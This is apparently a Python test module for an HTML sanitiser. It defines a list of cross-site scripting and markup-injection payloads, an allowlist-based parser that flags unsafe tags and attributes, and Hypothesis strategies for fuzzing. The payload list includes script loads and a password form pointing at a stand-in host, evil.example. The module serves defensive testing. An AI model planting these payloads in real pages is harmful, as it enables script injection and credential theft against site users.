"""Markup that wants to run, to ask for passwords, or to call home; and a look at markup that trusts nobody."""

from html.parser import HTMLParser

from hypothesis import strategies as st

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    '<img src="https://evil.example/pixel.gif">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="https://evil.example" target="_blank" rel="opener">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    # Spelled as clean links are, so that nothing but the address is wrong.
    *(
        f'<a href="{address}" rel="noopener noreferrer">x</a>'
        for address in (
            "javascript:alert(1)",
            "javascript://ok.example/%0aalert(1)",
            "JAVASCRIPT:alert(1)",
            "&#106;avascript:alert(1)",
            "data:text/html,x",
            "file:///etc/passwd",
            "//evil.example",
            "/\\evil.example",
            "https:evil",
            "x:y",
            "relative",
        )
    ),
    '<a href="https://ok.example">x</a>',
    '<b title="x">x</b>',
    '<a href="https://ok.example/"style="position:fixed;inset:0">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p class="modal" id="main" title="x" lang="xx" hidden>x</p>',
    "<style>@import '//evil.example/x.css';</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input type="password" name="p"><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<object data=x.swf></object><embed src=x.swf>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- <img src=x --><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><b>",
    "<b/onmouseover=alert(1)>x</b>",
    "<scr<b>ipt>alert(1)</scr</b>ipt>",
    "<<b>script>alert(1)</script>",
    "<td colspan='9999999' onclick=alert(1)>x</td>",
    "<custom-element onclick=alert(1)>x</custom-element>",
)

TAGS = {
    "a", "b", "blockquote", "br", "caption", "code", "dd", "del", "dl", "dt", "em", "h1", "h2", "h3", "h4", "hr", "i",
    "ins", "kbd", "li", "mark", "ol", "p", "pre", "s", "small", "strong", "sub", "sup", "table", "tbody", "td", "tfoot",
    "th", "thead", "tr", "u", "ul",
}  # fmt: skip
PIECES = (
    "<", ">", '"', "'", "/", "&", "&lt;", "&#60;", "=", " ", "\n", "\t", "\x0c", "<a ", 'href="', "x", "é", "on",
    "https://ok.example", "javascript:", 'target="_blank"', 'title="', "<!--", "-->", "<b", "script", "\u2028",
)  # fmt: skip


class Inspector(HTMLParser):
    """Lists what is in a text beside text and harmless tags, read by another parser than the one that cleaned it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if not self._is_harmless(tag, name, value or ""):
                self.found.append(f"{tag} {name}={value}")
        if tag == "a" and "href" in dict(attrs) and dict(attrs).get("rel") != "noopener noreferrer":
            self.found.append("a without rel")

    def _is_harmless(self, tag, name, value):
        if tag == "a" and name == "href":
            safe = value.startswith(("https://", "http://", "mailto:", "tel:", "#", "/"))
            return safe and not value.startswith("//") and "\\" not in value
        if tag == "a":
            return (name, value) in {("target", "_blank"), ("rel", "noopener noreferrer")} or name == "title"
        return tag in ("td", "th") and name in ("colspan", "rowspan") and value.isdecimal() and len(value) <= 3

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def harm_in(text: str) -> list[str]:
    """What of it would be more than text, in a page that goes on behind it."""
    inspector = Inspector()
    inspector.feed(text + "</i>")
    inspector.close()
    return inspector.found


soups = st.lists(
    st.one_of(
        st.sampled_from(HOSTILE),
        st.sampled_from(sorted(f"<{tag}>" for tag in TAGS) + sorted(f"</{tag}>" for tag in TAGS)),
        st.sampled_from(PIECES),
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=4),
    ),
    max_size=12,
).map("".join)
"""Pieces of markup in any order."""
